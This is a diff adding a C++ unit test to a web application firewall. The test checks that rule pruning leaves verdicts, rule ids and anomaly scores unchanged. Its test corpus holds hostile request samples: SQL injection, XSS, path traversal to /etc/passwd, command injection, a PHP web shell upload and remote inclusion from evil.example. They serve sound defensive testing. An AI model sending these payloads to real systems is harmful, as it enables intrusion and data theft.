@@ -577,5 +577,118 @@ TEST_F(WafConcurrency, FourThreadsShareOneRuleSet) {
   EXPECT_EQ(passed.load(), 400);
 }
 
+
+// ---- pruning (rule_pruning.hpp): the same verdicts with and without ----
+
+// A corpus of benign and hostile requests, each run through a route built by an engine that prunes and one
+// that does not: verdict, matched rule ids (in order), anomaly score and messages must be identical.
+TEST(WafPruning, VerdictsMatchAndMessagesAreIdenticalWithAndWithoutPruning) {
+  std::string error;
+  auto pruning = Engine::create(WafGlobalConfig{}, error);
+  ASSERT_NE(pruning, nullptr) << error;
+  WafGlobalConfig off;
+  off.prune_unreachable_rules = false;
+  auto plain = Engine::create(off, error);
+  ASSERT_NE(plain, nullptr) << error;
+
+  std::vector<Req> corpus;
+  for (const char* t : {"/api/v1/items", "/api/v1/items?page=2&sort=name", "/search?q=harga%20beras%20hari%20ini",
+                        "/api/v1/items?id=1%27%20OR%20%271%27%3D%271",
+                        "/api/v1/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
+                        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/files?name=../../../../etc/passwd",
+                        "/run?cmd=;cat%20/etc/passwd", "/x?a=%3C%3Fphp%20system($_GET[c]);%20%3F%3E",
+                        "/x?u=http://evil.example/shell.txt?", "/x?s=java.lang.Runtime.getRuntime().exec(%22id%22)",
+                        "/x?a=1&a=2&a=3", "/x?n=%00abc", "/index.php.bak", "/x?q=select%20pg_sleep(5)",
+                        "/x?q=%27%20or%201=1%20--%20-", "/x?q=admin%27--", "/x?email=siti@kota.go.id&ref=abc-123"}) {
+    corpus.push_back(get(t));
+  }
+  Req no_ua = get("/api/v1/items");
+  no_ua.defaults = false;
+  no_ua.headers = {{"Host", "api.kota.go.id"}, {"Accept", "*/*"}};
+  corpus.push_back(no_ua);
+  Req scanner = get("/");
+  scanner.defaults = false;
+  scanner.headers = {{"Host", "api.kota.go.id"}, {"User-Agent", "sqlmap/1.7"}, {"Accept", "*/*"}};
+  corpus.push_back(scanner);
+  Req ip_host = get("/");
+  ip_host.defaults = false;
+  ip_host.headers = {{"Host", "10.0.0.2"}, {"User-Agent", "curl/8.0"}};
+  corpus.push_back(ip_host);
+  Req referer = get("/search?q=ok");
+  referer.headers.emplace_back("Referer", "https://x.example/<script>alert(1)</script>");
+  corpus.push_back(referer);
+  Req cookie = get("/api/v1/me");
+  cookie.headers.emplace_back("Cookie", "session=abc; theme=dark");
+  corpus.push_back(cookie);
+  Req bad_method = get("/api/v1/items");
+  bad_method.method = "TRACE";
+  corpus.push_back(bad_method);
+  corpus.push_back(post(R"({"nama":"Siti Nurhaliza","nik":"3201010101010001","alamat":"Jl. Merdeka 1"})",
+                        "application/json"));
+  corpus.push_back(post(R"({"name":"<script>alert(1)</script>","qty":2})", "application/json"));
+  corpus.push_back(post(R"({"q":"1' UNION SELECT password FROM users --"})", "application/json"));
+  corpus.push_back(post(R"({"broken": )", "application/json"));
+  corpus.push_back(post("nama=Budi&kota=Bandung&catatan=kirim+besok", "application/x-www-form-urlencoded"));
+  corpus.push_back(post("q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "application/x-www-form-urlencoded"));
+  const std::string form = "multipart/form-data; boundary=b0undary";
+  const std::string png = small_png();
+  corpus.push_back(
+      post(multipart("b0undary", {{{"note", "", "", "hello"}}, {{"f", "a.png", "image/png", png}}}), form));
+  const std::string php = "<?php system($_GET['c']); ?>";
+  corpus.push_back(post(multipart("b0undary", {{{"f", "shell.php", "application/x-php", php}}}), form));
+  corpus.push_back(post("<a><b>x</b></a>", "text/xml"));
+
+  std::vector<WafRouteConfig> configs;
+  for (const int pl : {1, 2, 3, 4}) {
+    WafRouteConfig c;
+    c.mode = pl == 3 ? Mode::detect : Mode::block;
+    c.paranoia = pl;
+    configs.push_back(c);
+  }
+  WafRouteConfig excluded;
+  excluded.mode = Mode::block;
+  excluded.exclude_rules = {913100};
+  excluded.exclude_targets = {{942100, "ARGS:q"}};
+  configs.push_back(excluded);
+
+  for (const auto& c : configs) {
+    const auto set = pruning->rules_for(c, error);
+    ASSERT_NE(set, nullptr) << error;
+    EXPECT_EQ(set->not_pruned_because(), "") << "paranoia " << c.paranoia;
+    EXPECT_GT(set->pruned_rule_count(), 0u) << "paranoia " << c.paranoia;
+    EXPECT_EQ(plain->rules_for(c, error)->pruned_rule_count(), 0u);
+    const auto a = make_waf_stage(*pruning, c, error);
+    const auto b = make_waf_stage(*plain, c, error);
+    ASSERT_TRUE(a && b) << error;
+    int blocked = 0;
+    for (const Req& r : corpus) {
+      const Outcome x = run(*a, r), y = run(*b, r);
+      const std::string what = "paranoia " + std::to_string(c.paranoia) + " " + r.method + " " + r.target;
+      EXPECT_EQ(x.verdict.reason, y.verdict.reason) << what << "\n" << x.why() << "\n" << y.why();
+      EXPECT_EQ(x.ids, y.ids) << what << "\n" << x.why() << "\n" << y.why();
+      EXPECT_EQ(x.record.anomaly_score, y.record.anomaly_score) << what;
+      EXPECT_EQ(x.record.messages, y.record.messages) << what;
+      blocked += x.blocked() ? 1 : 0;
+    }
+    if (c.mode == Mode::block) EXPECT_GE(blocked, 15) << "paranoia " << c.paranoia;  // the corpus does bite
+  }
+
+  // At paranoia 1 the level-2..4 regions and the skip rules that jump over them go (about 2 per CRS file and
+  // phase); at 4 none of the paranoia skip rules match, and only the unused application exclusion packages go.
+  WafRouteConfig pl1, pl4;
+  pl1.mode = pl4.mode = Mode::block;
+  pl4.paranoia = 4;
+  EXPECT_GT(pruning->rules_for(pl1, error)->pruned_rule_count(), pruning->rules_for(pl4, error)->pruned_rule_count());
+
+  // An exclusion that names a skip rule would bring its region back: nothing is pruned.
+  WafRouteConfig skip_excluded;
+  skip_excluded.mode = Mode::block;
+  skip_excluded.exclude_rules = {911013};
+  const auto none = pruning->rules_for(skip_excluded, error);
+  ASSERT_NE(none, nullptr) << error;
+  EXPECT_EQ(none->pruned_rule_count(), 0u);
+  EXPECT_NE(none->not_pruned_because().find("911013"), std::string::npos) << none->not_pruned_because();
+}
+
 }  // namespace
 }  // namespace gerbang::policies::waf
